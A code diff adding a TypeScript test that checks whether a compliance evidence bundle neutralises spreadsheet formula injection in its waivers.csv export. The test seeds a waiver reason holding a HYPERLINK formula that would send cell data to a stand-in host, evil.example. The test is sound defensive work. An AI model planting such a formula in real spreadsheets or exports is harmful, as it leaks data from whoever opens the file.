@@ -213,4 +213,22 @@ describe("governance: scheme versions, waivers, evidence", () => {
     await new Promise<void>((resolve) => (slow.writableFinished ? resolve() : slow.once("finish", () => resolve())));
     expect(Buffer.concat(received).equals(await inProcessBytes)).toBe(true);
   });
+
+  it("evidence: a waiver reason or owner that would run as a spreadsheet formula is neutralised in waivers.csv", async () => {
+    const run = await db.prisma.syncRun.findFirstOrThrow({ where: { status: { in: ["succeeded", "partial"] } }, orderBy: { finishedAt: "desc" }, select: { id: true, finishedAt: true } });
+    const T = run.finishedAt!;
+    const bucket = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.unencryptedHigh }, select: { id: true, accountId: true } });
+    // Active at the snapshot: decided before it, expiring after it (written directly: the DAL stamps "now").
+    await db.prisma.waiver.create({
+      data: {
+        bucketId: bucket.id, controlId: "encryption-at-rest", status: "approved", reason: '=HYPERLINK("http://evil.example/?x="&A1,"open")', owner: "@ops",
+        proposedById: actors.lead.id, proposedAt: new Date(T.getTime() - 2 * 86_400_000), decidedById: actors.admin2.id, decidedAt: new Date(T.getTime() - 86_400_000),
+        expiresAt: new Date(T.getTime() + 30 * 86_400_000),
+      },
+    });
+    const zip = await JSZip.loadAsync(await bundleBytes(actors.auditor, { syncRunId: run.id, accounts: [bucket.accountId], ous: [], levels: [], controls: [] }));
+    const waivers = await zip.file("waivers.csv")!.async("string");
+    expect(waivers).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",'@ops,`);
+    expect(waivers).not.toMatch(/(^|,)"?[=@]/m);
+  });
 });
